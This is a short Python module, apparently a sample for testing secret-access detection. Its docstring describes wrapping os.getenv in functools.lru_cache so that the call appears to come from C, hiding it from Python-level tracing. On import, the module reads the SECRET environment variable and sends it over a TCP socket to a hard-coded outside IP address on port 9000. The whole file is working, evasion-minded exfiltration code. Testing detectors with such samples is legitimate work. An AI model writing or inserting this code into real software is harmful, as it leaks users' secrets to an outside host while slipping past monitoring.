"""functools.lru_cache around os.getenv: the call comes from C."""
import functools
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(functools.lru_cache(os.getenv)("SECRET").encode())
